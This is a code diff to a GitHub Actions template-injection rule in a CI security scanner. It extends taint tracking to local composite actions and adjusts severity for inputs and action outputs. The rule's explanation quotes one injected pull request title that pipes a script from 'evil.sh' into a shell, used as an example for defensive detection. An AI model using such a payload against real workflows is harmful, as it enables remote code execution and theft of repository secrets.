@@ -4,14 +4,17 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 from dataclasses import dataclass
+from pathlib import PurePosixPath
 
 from aisec_ci.findings import Finding
 from aisec_ci.rules import Rule
-from aisec_ci.scanners.workflows.contexts import ATTACKER_OUTPUT_ACTIONS, Tier, classify
+from aisec_ci.scanners.base import SkipFile
+from aisec_ci.scanners.workflows.contexts import Tier, classify, output_tier
 from aisec_ci.scanners.workflows.expressions import find_expressions
-from aisec_ci.scanners.workflows.loader import Node
+from aisec_ci.scanners.workflows.loader import Node, load_yaml
 from aisec_ci.scanners.workflows.model import PULL_REQUEST_TRIGGERS, Step, WorkflowDoc
 from aisec_ci.severity import Severity
+from aisec_ci.workspace.reading import UnreadableFile, read_bounded_text
 
 TEMPLATE_INJECTION = Rule(
     id="workflows/template-injection",
@@ -21,8 +24,13 @@ TEMPLATE_INJECTION = Rule(
     what="Finds `${{ }}` expressions inside `run:` scripts and script inputs of actions that execute them "
     "(`actions/github-script` `script:`, `azure/cli` `inlineScript:`, `appleboy/ssh-action` `script:` ...) that "
     "read text someone else controls: pull request and issue titles and bodies, comments, review bodies, "
-    "fork branch names (`github.head_ref`), commit messages, and (lower) workflow inputs, tag and branch "
-    "names. Values reached through `env.*` and through outputs of changed-file actions are followed.",
+    "fork branch names (`github.head_ref`), commit messages; at low severity, text people with write access "
+    "choose: tag and branch names, and `inputs.*` of `workflow_dispatch`, `workflow_call` and composite "
+    "actions. Values reached through `env.*` are followed, and so are the outputs of actions that copy "
+    "pull request file or branch names (the file lists of `tj-actions/changed-files` or `dorny/paths-filter`, "
+    "not their `true`/`false` flags or counts; `docker/metadata-action` labels but not its tags or version). "
+    "Attacker text passed in `with:` to a local composite action that expands that input in its script is "
+    "reported at the caller.",
     why="GitHub substitutes the expression into the script text before the shell or Node runs it, so a PR "
     'titled `x"; curl evil.sh | sh; echo "` becomes part of the command. Under `pull_request_target`, '
     "`issue_comment` or `workflow_run` the script runs with the repository's secrets and a write token: "
@@ -88,6 +96,88 @@ def check(doc: WorkflowDoc) -> Iterator[Finding]:
                     line = sink.line + nl
                     column = sink.column + pos if nl == 0 else pos - raw.rfind("\n", 0, pos)
                 yield _finding(doc, step, sink, what, expr.body, worst, line, column)
+        yield from _forwarded_to_local_action(doc, step)
+
+
+# A composite action reports its own `inputs.*` as low (callers set them); a caller in the same
+# repository that passes pull request text into such an input is where the injection is decided.
+_ACTION_FILE_LIMIT = 1 << 20
+
+
+def _forwarded_to_local_action(doc: WorkflowDoc, step: Step) -> Iterator[Finding]:
+    uses = step.uses
+    with_ = step.with_
+    if uses is None or uses.kind != "local" or with_ is None or not with_.is_map:
+        return
+    expanded: set[str] | None = None
+    for name, _, value in with_.entries():
+        if not value.is_scalar:
+            continue
+        for expr in find_expressions(value.value):
+            taint = next(
+                (t for ref in expr.refs if (t := _taint(doc, step, ref, 0)) is not None and t.tier is Tier.ATTACKER),
+                None,
+            )
+            if taint is None:
+                continue
+            if expanded is None:
+                expanded = _inputs_expanded_by(doc, uses.path)
+            if name.lower() not in expanded:
+                break
+            yield doc.finding(
+                TEMPLATE_INJECTION,
+                value,
+                f"`${{{{ {expr.body} }}}}` is passed as input `{name}` of the local action `{uses.path}` in step "
+                f"'{step.name}', whose script expands `inputs.{name}`: it reads `{taint.ref}`, text anyone who "
+                "opens an issue or pull request can write"
+                + (
+                    f"; this workflow runs with secrets and a write token ({', '.join(doc.privileged_triggers)})"
+                    if doc.privileged_triggers
+                    else ""
+                )
+                + ". Pass it to the action through an environment variable it reads instead.",
+                severity=_severity(doc, taint),
+                key=f"{doc.step_key(step)}:with:{name}:{expr.body}",
+                properties={"context": taint.ref, "via": f"{uses.path} input {name}", "tier": "attacker"},
+            )
+            break
+
+
+def _inputs_expanded_by(doc: WorkflowDoc, action_path: str) -> set[str]:
+    """Lower-case names of the inputs a local composite action pastes into its scripts."""
+    rel = PurePosixPath(doc.file.path)
+    root = doc.file.abspath.parents[len(rel.parts) - 1] if len(rel.parts) >= 1 else doc.file.abspath.parent
+    target = (root / action_path).resolve()
+    if not target.is_relative_to(root.resolve()):
+        return set()
+    for name in ("action.yml", "action.yaml"):
+        try:
+            node = load_yaml(read_bounded_text(target / name, _ACTION_FILE_LIMIT))
+        except (UnreadableFile, SkipFile, OSError):
+            continue
+        runs = node.get("runs") if node is not None and node.is_map else None
+        steps = runs.get("steps") if runs is not None and runs.is_map else None
+        if steps is None or not steps.is_seq:
+            return set()
+        out: set[str] = set()
+        for item in steps.items:
+            if not item.is_map:
+                continue
+            scripts = [item.get("run")]
+            uses_text = item.text("uses") or ""
+            with_node = item.get("with")
+            for slug, keys in _CODE_INPUTS.items():
+                if uses_text.lower().startswith(slug + "@") and with_node is not None and with_node.is_map:
+                    scripts += [with_node.get(k) for k in keys]
+            for script in scripts:
+                if script is None or not script.is_scalar:
+                    continue
+                for expr in find_expressions(script.value):
+                    out.update(
+                        ref.split(".")[1] for ref in expr.refs if ref.startswith("inputs.") and ref.count(".") >= 1
+                    )
+        return out
+    return set()
 
 
 def _sinks(step: Step) -> list[tuple[Node, str]]:
@@ -159,11 +249,15 @@ def _step_output_taint(doc: WorkflowDoc, step: Step, ref: str) -> _Taint | None:
         return None
     other = doc.step_by_id(step.job, parts[1])
     uses = other.uses if other is not None else None
-    if uses is None or uses.kind != "repo" or uses.slug not in ATTACKER_OUTPUT_ACTIONS:
+    if uses is None or uses.kind != "repo":
         return None
-    if doc.is_action or doc.triggers.keys() & PULL_REQUEST_TRIGGERS:
-        return _Taint(Tier.ATTACKER, f"{uses.slug} output", ref)
-    return None
+    tier = output_tier(uses.slug, parts[3] if len(parts) > 3 else None)
+    if tier is Tier.NONE:
+        return None
+    # File and branch names come from a pull request only on events a pull request causes.
+    if tier is Tier.ATTACKER and not (doc.is_action or doc.triggers.keys() & PULL_REQUEST_TRIGGERS):
+        return None
+    return _Taint(tier, f"{uses.slug} output", ref)
 
 
 def _input_type(doc: WorkflowDoc, name: str) -> str:
@@ -187,9 +281,20 @@ def _input_type(doc: WorkflowDoc, name: str) -> str:
 def _severity(doc: WorkflowDoc, taint: _Taint) -> Severity:
     if taint.tier is Tier.ATTACKER:
         return Severity.CRITICAL if doc.privileged_triggers and not doc.is_action else Severity.HIGH
-    if taint.ref.startswith(("inputs.", "github.event.inputs.", "github.event.client_payload")):
+    if taint.ref.startswith("github.event.client_payload"):
         return Severity.MEDIUM
+    # Workflow and action inputs: low (see `_is_input`).
     return Severity.LOW
+
+
+def _is_input(ref: str) -> bool:
+    """`inputs.*` of workflow_dispatch / workflow_call / a composite action, and `github.event.inputs.*`.
+
+    Only people with write access dispatch a workflow, and only workflows of the repository (or of
+    repositories that chose to call it) pass `workflow_call` or action inputs: the value is theirs, not
+    an outsider's. A caller could still forward pull request text into one, which this file cannot see.
+    """
+    return ref.startswith(("inputs.", "github.event.inputs."))
 
 
 def _finding(
@@ -202,8 +307,13 @@ def _finding(
         who = "text anyone who opens an issue or pull request can write"
         if doc.privileged_triggers and not doc.is_action:
             who += f"; this workflow runs with secrets and a write token ({', '.join(doc.privileged_triggers)})"
-    elif taint.ref.startswith(("inputs.", "github.event.inputs.", "github.event.client_payload")):
-        who = "free-text input from whoever triggers or calls this workflow"
+    elif _is_input(taint.ref):
+        who = (
+            "a free-text input, which only people with write access set (by dispatching or calling the "
+            "workflow, or using the action), so this is low unless a caller forwards pull request text into it"
+        )
+    elif taint.ref.startswith("github.event.client_payload"):
+        who = "free-text payload from whoever sends the repository_dispatch event"
     else:
         who = "text people with write access choose (a branch, tag, release or label name), which may hold shell syntax"
     message = (
